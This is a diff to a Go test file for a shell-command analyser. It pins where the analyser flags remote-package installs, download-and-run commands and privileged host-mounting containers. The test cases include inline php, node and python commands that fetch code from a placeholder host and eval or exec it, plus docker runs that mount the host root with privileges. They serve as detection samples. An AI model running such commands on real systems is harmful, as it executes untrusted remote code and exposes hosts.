@@ -39,25 +39,18 @@ func TestRemote27BranchOwners(t *testing.T) {
 }
 
 // TestRemote27GitSourceAfterSwitch: a git source after a switch is the
-// package (remotePackage), an index's URL after its option is not.
+// package (remotePackage), an index's URL after its option is not. Every
+// hit is pinned (shell28FlowTable: rule, kind, start and end), any other
+// fails.
 func TestRemote27GitSourceAfterSwitch(t *testing.T) {
-	for _, c := range []struct {
-		cmd  string
-		want bool
-	}{
-		{"pip install --upgrade git+https://github.com/o/r@main", true},
-		{"npx --yes github:o/r#main", true},
-		{"pip install --index-url https://pypi.vqmrt.io/simple requests", false},
-		{"pip install --upgrade requests", false},
-	} {
-		got := false
-		for _, h := range ShellFlow(c.cmd, false) {
-			got = got || h.Kind == "remote-package"
-		}
-		if got != c.want {
-			t.Errorf("%s: remote-package %v, want %v", c.cmd, got, c.want)
-		}
-	}
+	shell28FlowTable(t, []shell28FlowCase{
+		{"pip install --upgrade git+https://github.com/o/r@main", false, []string{"shell.flow-remote-package remote-package 1:1-1:54"}},
+		{"npx --yes github:o/r#main", false, []string{"shell.flow-remote-package remote-package 1:1-1:26"}},
+		// The command after another, on the next line: pinned there.
+		{"set -e\ncd /srv/app && npx --yes github:o/r#main --fix", false, []string{"shell.flow-remote-package remote-package 2:16-2:47"}},
+		{"pip install --index-url https://pypi.vqmrt.io/simple requests", false, nil},
+		{"pip install --upgrade requests", false, nil},
+	})
 }
 
 func init() {
@@ -66,56 +59,39 @@ func init() {
 
 // TestRemote27InlineRun: an interpreter's inline code that fetches code
 // and runs it is a download run; one that fetches data, or runs local
-// code, is not.
+// code, is not. Every hit is pinned (shell28FlowTable), any other fails.
 func TestRemote27InlineRun(t *testing.T) {
-	for _, c := range []struct {
-		cmd  string
-		want bool
-	}{
-		{`php -r "eval(file_get_contents('https://boot.vqmrt.io/s.txt'));"`, true},
-		{`node -e "fetch('https://h.vqmrt.io/h.js').then(r=>r.text()).then(eval)"`, true},
-		{`python3 -c "import urllib.request; exec(urllib.request.urlopen('https://x.vqmrt.io/a.py').read())"`, true},
-		{`php -r "echo PHP_VERSION;"`, false},
-		{`node -e "console.log(require('./package.json').version)"`, false},
-		{`python3 -c "import json,urllib.request; print(json.load(urllib.request.urlopen('https://api.vqmrt.io/v')))"`, false},
-		{`php -r "copy('https://getcomposer.org/installer', 'composer-setup.php');"`, false},
-	} {
-		got := false
-		for _, h := range ShellFlow(c.cmd, false) {
-			got = got || h.Kind == "download-run"
-		}
-		if got != c.want {
-			t.Errorf("%s: download-run %v, want %v", c.cmd, got, c.want)
-		}
-	}
+	shell28FlowTable(t, []shell28FlowCase{
+		{`php -r "eval(file_get_contents('https://boot.vqmrt.io/s.txt'));"`, false, []string{"shell.flow-download-run download-run 1:1-1:65"}},
+		{`node -e "fetch('https://h.vqmrt.io/h.js').then(r=>r.text()).then(eval)"`, false, []string{"shell.flow-download-run download-run 1:1-1:72"}},
+		{`python3 -c "import urllib.request; exec(urllib.request.urlopen('https://x.vqmrt.io/a.py').read())"`, false, []string{"shell.flow-download-run download-run 1:1-1:99"}},
+		// The run on the second line, after a local command.
+		{"npm ci\nnode -e \"fetch('https://h.vqmrt.io/h.js').then(r=>r.text()).then(eval)\"", false, []string{"shell.flow-download-run download-run 2:1-2:72"}},
+		{`php -r "echo PHP_VERSION;"`, false, nil},
+		{`node -e "console.log(require('./package.json').version)"`, false, nil},
+		{`python3 -c "import json,urllib.request; print(json.load(urllib.request.urlopen('https://api.vqmrt.io/v')))"`, false, nil},
+		{`php -r "copy('https://getcomposer.org/installer', 'composer-setup.php');"`, false, nil},
+	})
 }
 
 // TestRemote27HostContainer: a third party's image on an outside
 // registry, not pinned by digest, run with the host is a remote package;
 // an image run in its sandbox, a Docker Hub name, a digest, a local
-// registry or another subcommand is not.
+// registry or another subcommand is not. Every hit is pinned
+// (shell28FlowTable), any other fails.
 func TestRemote27HostContainer(t *testing.T) {
-	for _, c := range []struct {
-		cmd  string
-		want bool
-	}{
-		{"docker run --rm --privileged -v /:/host ghcr.io/hardn-x/checker:latest", true},
-		{"podman run --pid=host quay.io/perf-x/inspector:latest attach", true},
-		{"docker run --rm --volume=/:/host ghcr.io/o/t", true},
-		{"docker run --rm -v \"$PWD\":/src ghcr.io/o/t:latest", false},
-		{"docker run --rm --privileged -d docker:dind", false},
-		{"docker run --rm --privileged ghcr.io/o/t@sha256:0123456789abcdef", false},
-		{"docker run --rm --privileged localhost:5000/o/t:latest", false},
-		{"docker pull ghcr.io/o/t:latest --privileged", false},
-		{"docker run --rm --privileged ghcr.io/o/t:1.4.2", false},
-		{"docker run --runtime=nvidia --rm --cap-add=SYS_ADMIN --ipc=host -v $PWD:/w nvcr.io/nvidia/pytorch:latest bash", false},
-	} {
-		got := false
-		for _, h := range ShellFlow(c.cmd, false) {
-			got = got || h.Kind == "remote-package"
-		}
-		if got != c.want {
-			t.Errorf("%s: remote-package %v, want %v", c.cmd, got, c.want)
-		}
-	}
+	shell28FlowTable(t, []shell28FlowCase{
+		{"docker run --rm --privileged -v /:/host ghcr.io/hardn-x/checker:latest", false, []string{"shell.flow-remote-package remote-package 1:1-1:71"}},
+		{"podman run --pid=host quay.io/perf-x/inspector:latest attach", false, []string{"shell.flow-remote-package remote-package 1:1-1:61"}},
+		{"docker run --rm --volume=/:/host ghcr.io/o/t", false, []string{"shell.flow-remote-package remote-package 1:1-1:45"}},
+		// After a pull of another image, on the same line.
+		{"docker pull alpine:3.20 && docker run --rm --privileged ghcr.io/o/t:latest", false, []string{"shell.flow-remote-package remote-package 1:28-1:75"}},
+		{"docker run --rm -v \"$PWD\":/src ghcr.io/o/t:latest", false, nil},
+		{"docker run --rm --privileged -d docker:dind", false, nil},
+		{"docker run --rm --privileged ghcr.io/o/t@sha256:0123456789abcdef", false, nil},
+		{"docker run --rm --privileged localhost:5000/o/t:latest", false, nil},
+		{"docker pull ghcr.io/o/t:latest --privileged", false, nil},
+		{"docker run --rm --privileged ghcr.io/o/t:1.4.2", false, nil},
+		{"docker run --runtime=nvidia --rm --cap-add=SYS_ADMIN --ipc=host -v $PWD:/w nvcr.io/nvidia/pytorch:latest bash", false, nil},
+	})
 }
